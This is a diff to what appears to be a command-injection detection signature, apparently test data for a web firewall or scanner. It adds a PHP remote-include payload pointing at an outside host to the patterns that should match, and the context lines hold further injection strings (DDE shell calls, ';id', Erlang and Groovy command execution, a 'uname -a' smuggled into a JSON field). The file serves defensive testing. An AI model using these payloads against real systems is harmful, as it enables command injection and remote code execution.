@@ -18,6 +18,7 @@ export const commandInjection: Signature = {
       '=CALL("Shell32","ShellExecuteA")',
       'DDE ("cmd";"/C calc")',
       ';id',
+      "include('http://192.0.2.1/x.txt');",
       "a;exit(base64_decode('dzRwMXQx'));//",
       `;erl -eval 'os:cmd("id")'`,
       `'ping -c 1 192.0.2.1'.execute()`,
@@ -140,6 +141,7 @@ export const commandInjection: Signature = {
       { method: 'POST', contentType: 'application/json', body: '{"host":{"name":"10.0.0.1; uname -a"}}' },
     ],
     misses: [
+      "include('parts/head.php');",
       'a list;dc comics;marvel',
       'bash -c option (meaning)',
       '"accounts".rows.execute()',
